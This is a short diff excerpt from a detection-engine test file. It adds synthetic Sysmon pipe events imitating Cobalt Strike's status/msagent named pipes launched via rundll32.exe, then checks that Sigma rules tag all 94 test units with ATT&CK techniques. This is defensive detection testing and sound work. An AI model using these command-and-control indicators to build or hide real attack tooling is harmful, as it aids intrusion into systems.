+    u('Cobalt Strike status/msagent pipes', [...C2, ...LM], [sm(17, { EventType: 'CreatePipe', PipeName: '\\status_4f', Image: `${S32}rundll32.exe` }), sm(18, { EventType: 'ConnectPipe', PipeName: '\\msagent_4f', Image: `${S32}rundll32.exe` })]),
+  ];
+  const defaults = loadSigmaRules({ minLevel: 'informational' });
+  const lookup = attackLookup();
+  it('every unit is tagged with a technique of its tactic', () => {
+    const untagged = units
+      .filter((unit) => {
+        const found = analyzeEvents(unit.events, { sigma: defaults }).detections?.summary() ?? [];
+        return !found.some((d) => [...d.tactics, ...d.techniques.flatMap((x) => lookup.technique(x).tactics)].some((x) => unit.tactics.includes(x)));
+      })
+      .map((unit) => unit.name);
+    expect(untagged).toEqual([]);
+    expect(units.length).toBe(94);
   });
 });
